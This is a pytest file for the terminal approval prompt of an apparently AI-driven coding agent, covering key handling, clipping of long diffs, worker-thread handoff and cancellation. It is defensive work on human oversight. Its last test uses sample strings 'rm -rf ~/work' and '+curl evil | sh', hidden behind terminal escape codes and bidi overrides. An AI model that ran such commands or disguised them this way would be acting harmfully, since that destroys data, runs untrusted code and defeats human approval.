"""TerminalApprover: one key, diff or command shown, and questions from a worker thread answered by the
main thread."""

from __future__ import annotations

import threading
from collections.abc import Callable

import pytest
from ui_fakes import plain_console

from nanohermes.core.cancel import CancelToken
from nanohermes.core.errors import Cancelled
from nanohermes.core.protocols import ApprovalRequest, Decision
from nanohermes.ui.approve import PendingApproval, TerminalApprover

EDIT = ApprovalRequest("edit_file", "edit src/a.py", "--- a/src/a.py\n+++ b/src/a.py\n-old\n+new\n")
SHELL = ApprovalRequest("run_shell", "run a shell command", "rm -rf build && make")


def keys(*pressed: str) -> tuple[list[str], Callable[[str], str]]:
    questions: list[str] = []
    queue = list(pressed)

    def read(question: str) -> str:
        questions.append(question)
        return queue.pop(0)

    return questions, read


@pytest.mark.parametrize(
    ("key", "decision"),
    [("y", Decision.YES), ("N", Decision.NO), ("a", Decision.ALWAYS), ("x", Decision.NO), ("", Decision.NO)],
)
def test_one_key_decides(key: str, decision: Decision) -> None:
    console, out = plain_console()
    questions, read = keys(key)
    approver = TerminalApprover(console, read_key=read)
    assert approver(EDIT) is decision
    assert len(questions) == 1
    assert "[a]lways" in questions[0]
    text = out.getvalue()
    assert "edit src/a.py" in text
    assert "+new" in text
    assert "-old" in text


def test_shell_command_is_shown() -> None:
    console, out = plain_console()
    _, read = keys("n")
    assert TerminalApprover(console, read_key=read)(SHELL) is Decision.NO
    assert "rm -rf build && make" in out.getvalue()
    assert "→ no" in out.getvalue()


def test_long_diffs_are_clipped() -> None:
    console, out = plain_console()
    _, read = keys("y")
    detail = "\n".join(f"+line {n}" for n in range(200))
    TerminalApprover(console, read_key=read)(ApprovalRequest("write_file", "write x", detail))
    assert "… 140 more lines" in out.getvalue()
    assert "+line 199" not in out.getvalue()


def test_worker_thread_question_is_answered_by_the_main_thread() -> None:
    console, _ = plain_console()
    questions, read = keys("a")
    approver = TerminalApprover(console, read_key=read)
    posted: list[PendingApproval] = []
    arrived = threading.Event()

    def post(pending: PendingApproval) -> None:
        posted.append(pending)
        arrived.set()

    approver.attach(post, CancelToken())
    answers: list[Decision] = []
    worker = threading.Thread(target=lambda: answers.append(approver(EDIT)))
    worker.start()
    assert arrived.wait(5)
    assert questions == []  # the worker never touched the terminal
    assert approver.answer(posted[0]) is Decision.ALWAYS
    worker.join(5)
    assert answers == [Decision.ALWAYS]


def test_cancel_unblocks_a_waiting_worker_as_interrupted() -> None:
    console, _ = plain_console()
    approver = TerminalApprover(console, read_key=lambda q: "y")
    token = CancelToken()
    approver.attach(lambda pending: None, token)  # nobody answers
    answers: list[Decision | Cancelled] = []

    def ask() -> None:
        try:
            answers.append(approver(EDIT))
        except Cancelled as err:
            answers.append(err)

    worker = threading.Thread(target=ask)
    worker.start()
    token.cancel()
    worker.join(5)
    later = threading.Thread(target=ask)  # asked after the cancel: never posted, interrupted too
    later.start()
    later.join(5)
    assert [type(answer) for answer in answers] == [Cancelled, Cancelled]


def test_ctrl_c_while_asking_interrupts_the_call_and_propagates() -> None:
    """Ctrl-C at the question is no answer: the waiting worker gets `Cancelled` (the runner's
    "interrupted by user"), not a "no" that the model would read as the user declining."""
    console, _ = plain_console()

    def interrupted(question: str) -> str:
        raise KeyboardInterrupt

    approver = TerminalApprover(console, read_key=interrupted)
    token = CancelToken()
    approver.attach(lambda pending: None, token)
    pending = PendingApproval(EDIT)
    with pytest.raises(KeyboardInterrupt):
        approver.answer(pending)
    assert token.cancelled  # before the worker is released: it must not go on to the next request
    with pytest.raises(Cancelled):
        pending.wait(token)


def test_escape_sequences_cannot_hide_what_is_approved() -> None:
    """A command (or a written file's diff) holding terminal controls is shown with them made
    visible: erasing the line, moving the cursor up or reordering the text cannot disguise it."""
    console, out = plain_console()
    _, read = keys("n", "n")
    hidden = "rm -rf ~/work #\x1b[2K\x1b[1Gecho hello"
    diff = "--- a/x\n+++ b/x\n+curl evil | sh\x1b[1A\x1b[2K\r\n+print('hi')\r\n+\u202eevil\u202c\n"
    approver = TerminalApprover(console, read_key=read)
    approver(ApprovalRequest("run_shell", f"run {hidden}", hidden))
    approver(ApprovalRequest("write_file", "write x", diff))
    text = out.getvalue()
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "rm -rf ~/work #\\x1b[2K\\x1b[1Gecho hello" in text
    assert "+curl evil | sh\\x1b[1A\\x1b[2K" in text
    assert "+\\u202eevil\\u202c" in text
    assert "\\x0d" not in text  # a CRLF line end is not noise
